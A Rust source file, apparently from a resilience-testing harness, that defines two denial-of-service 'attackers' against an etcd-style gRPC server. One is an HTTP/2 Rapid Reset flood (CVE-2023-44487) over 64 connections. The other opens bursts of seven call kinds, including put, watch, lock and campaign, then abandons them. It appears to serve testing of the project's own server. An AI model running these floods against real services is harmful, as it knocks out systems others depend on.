//! Calls that are taken back, as Go's clients do with all that they cancel.

use std::time::Duration;

use anyhow::Result;
use bytes::Bytes;
use dengine_etcd::etcdserverpb::{
    DeleteRangeRequest, LeaseKeepAliveRequest, PutRequest, WatchCreateRequest,
};
use dengine_etcd::v3electionpb::CampaignRequest;
use dengine_etcd::v3lockpb::LockRequest;
use futures::future::BoxFuture;
use tokio::time::sleep;

use super::watches::create;
use super::{CAMPAIGN, DELETE, LEASE_KEEP_ALIVE, LOCK, PUT, RANGE, WATCH, everything};
use crate::attackers::http2::{AT_ONCE, flood_at, put_taken_back};
use crate::attackers::{Arena, Attacker, crowd};
use crate::frames;
use crate::link::{Link, framed};

/// What is taken back.
const CALLS: &[&str] = &[
    "listen-etcd",
    "etcdserverpb.KV/Range",
    "etcdserverpb.KV/Put",
    "etcdserverpb.KV/DeleteRange",
    "etcdserverpb.Watch/Watch",
    "etcdserverpb.Lease/LeaseKeepAlive",
    "v3lockpb.Lock/Lock",
    "v3electionpb.Election/Campaign",
];

pub(in crate::attackers) const ATTACKERS: &[Attacker] = &[
    Attacker {
        name: "etcd-rapid-reset",
        does: "calls of seven kinds that are taken back in the same packet (CVE-2023-44487), over \
            64 connections",
        on: CALLS,
        run: rapid_reset,
    },
    Attacker {
        name: "etcd-cancels",
        does: "connections on which 256 calls of seven kinds are begun and taken back, sixteen \
            times, before they are closed",
        on: CALLS,
        run: cancels,
    },
];

/// One of each kind: its path, and its first message.
fn calls(number: usize) -> [(&'static str, Bytes); 7] {
    let key: Bytes = format!("hostile/cancelled/{number}").into();
    let range = framed(&everything());
    let put = framed(&PutRequest {
        key: key.clone(),
        value: vec![7; 1_000].into(),
        ..PutRequest::default()
    });
    let delete = framed(&DeleteRangeRequest {
        key: key.clone(),
        ..DeleteRangeRequest::default()
    });
    let watch = create(WatchCreateRequest {
        key: key.clone(),
        ..WatchCreateRequest::default()
    });
    let keep = framed(&LeaseKeepAliveRequest { id: 1 });
    let lock = framed(&LockRequest {
        name: key.clone(),
        ..LockRequest::default()
    });
    let campaign = framed(&CampaignRequest {
        name: key,
        ..CampaignRequest::default()
    });
    [
        (RANGE, range),
        (PUT, put),
        (DELETE, delete),
        (WATCH, watch),
        (LEASE_KEEP_ALIVE, keep),
        (LOCK, lock),
        (CAMPAIGN, campaign),
    ]
}

fn rapid_reset(arena: Arena) -> BoxFuture<'static, ()> {
    crowd(arena, 64, |arena, number| {
        let calls = calls(number).map(|(path, body)| (frames::headers(path), body));
        let mut stream = 1;
        flood_at(arena.doors.etcd, arena, number, move |bytes| {
            for n in 0..AT_ONCE {
                let (headers, body) = &calls[n % calls.len()];
                put_taken_back(bytes, stream, headers, body);
                stream += 2;
            }
            AT_ONCE as u64
        })
    })
}

fn cancels(arena: Arena) -> BoxFuture<'static, ()> {
    crowd(arena, 32, |arena, number| async move {
        let calls = calls(number);
        loop {
            let link = Link::open(arena.doors.etcd).await?;
            for round in 0..16 {
                begin_and_leave(&link, &calls, round).await?;
                arena.tally.did(AT_ONCE as u64);
            }
        }
    })
}

/// By then some were answered, and some wait.
async fn begin_and_leave(link: &Link, calls: &[(&str, Bytes)], round: u64) -> Result<()> {
    let mut begun = Vec::new();
    for n in 0..AT_ONCE {
        let (path, first) = &calls[n % calls.len()];
        let mut call = link.begin(path).await?;
        // Of each kind some requests never end.
        let ends = n % 2 == 0;
        call.body.send_data(first.clone(), ends)?;
        begun.push(call);
    }
    sleep(Duration::from_millis(round)).await;
    drop(begun);
    Ok(())
}
